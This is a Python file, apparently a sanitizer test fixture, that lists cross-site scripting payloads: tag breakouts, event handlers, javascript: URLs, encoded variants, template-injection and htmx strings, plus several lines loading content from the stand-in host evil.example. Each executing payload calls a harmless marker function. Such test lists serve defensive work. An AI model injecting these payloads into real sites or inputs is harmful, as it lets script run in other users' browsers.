"""What people type who want it run in somebody else's browser: where it is, it calls `ran()`."""

PAYLOADS = [
    *("<script>ran()</script>", "<ScRiPt>ran()</sCrIpT>", "<scr<script>ipt>ran()</script>"),
    *(
        "<<script>ran()//<</script>",
        "</script><script>ran()</script>",
        "</title><script>ran()</script>",
    ),
    *("</textarea><script>ran()</script>", "</option></select><script>ran()</script>"),
    *("</template><script>ran()</script>", "</style><script>ran()</script>"),
    *("--><script>ran()</script>", "<!--><script>ran()</script>-->", "]]><script>ran()</script>"),
    *("<svg><script>ran()</script></svg>", "<math><script>ran()</script></math>"),
    *("<img src=x onerror=ran()>", "<img/src/onerror=ran()>", "<img src=`x` onerror=ran()>"),
    *(
        '"><img src=x onerror=ran()>',
        "'><img src=x onerror=ran()>",
        '\\"><img src=x onerror=ran()>',
    ),
    *("<svg onload=ran()>", "<svg/onload=ran()>", "<body onload=ran()>", "<p onclick=ran()>x</p>"),
    *("<details open ontoggle=ran()>", "<marquee onstart=ran()>", "<dialog open onfocusin=ran()>"),
    *(
        "<video><source onerror=ran()></video>",
        "<audio src=x onerror=ran()>",
        "<x onpointerover=ran()>",
    ),
    *("<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()></select>"),
    *('" autofocus onfocus=ran() x="', "' autofocus onfocus=ran() x='", "x onerror=ran() src=x"),
    *('" onpointerenter="ran()', '" style="background:url(//evil.example)', "`-ran()-`"),
    *(
        "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
        "<iframe src=javascript:parent.ran()>",
    ),
    *("<object data=javascript:ran()></object>", "<embed src=javascript:ran()>"),
    *("<a href=javascript:ran()>x</a>", "<form action=javascript:ran()><button>x</button></form>"),
    *("javascript:ran()", "JaVaScRiPt:ran()//", "data:text/html,<script>opener.ran()</script>"),
    *("<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>"),
    *(
        "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
        "<style>@import'//evil.example'</style>",
    ),
    *(
        "<svg><animate onbegin=ran() attributeName=x dur=1s>",
        "<svg><set onbegin=ran() attributename=x>",
    ),
    *(
        '<noscript><p title="</noscript><img src=x onerror=ran()>">',
        "{{ ran() }}{% debug %}${ran()}",
    ),
    *("';ran();//", '";ran();//', "\\';ran();//", "\\u003cscript\\u003eran()\\u003c/script\\u003e"),
    *("&lt;script&gt;ran()&lt;/script&gt;", "&#60;script&#62;ran()&#60;/script&#62;"),
    *("%3Cscript%3Eran()%3C/script%3E", "+ADw-script+AD4-ran()+ADw-/script+AD4-"),
    *(
        "<div hx-on:load=ran() hx-on::load=ran()>",
        "<p hx-trigger=load hx-get=/today/ hx-vals='js:{a:ran()}'>",
    ),
    *(
        "<b data-quick data-row data-tick onfocus=ran()>",
        "\u202e<img src=x onerror=ran()>",
        "__proto__",
    ),
]
